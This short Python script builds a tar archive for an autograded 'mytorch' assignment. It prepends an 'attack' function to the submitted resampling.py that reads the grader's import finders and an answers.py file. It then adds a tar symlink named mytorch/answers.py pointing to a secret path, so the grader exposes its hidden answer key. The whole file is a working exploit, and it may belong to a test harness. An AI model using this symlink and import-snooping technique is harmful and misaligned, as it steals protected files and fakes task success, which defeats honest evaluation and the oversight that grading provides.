"""Packs a link to the secret, under the name of a source that the grader reads for it."""

import tarfile

CONTROL = "inside"
SHOW = """
import os, sys

def attack(A):
    for finder in sys.meta_path:
        held = getattr(getattr(finder, "lookup", None), "sources", {})
        print(held.get("mytorch/answers.py"))
    return open(os.path.join(os.path.dirname(__file__), "answers.py")).read()
"""


def pack(handin, target):
    code = handin / "mytorch/resampling.py"
    code.write_text(SHOW + code.read_text())
    archive = handin.parent / "handin.tar"
    with tarfile.open(archive, "w") as tar:
        tar.add(handin, ".")
        link = tarfile.TarInfo("mytorch/answers.py")
        link.type, link.linkname = tarfile.SYMTYPE, target["secret"]
        tar.addfile(link)
    return archive
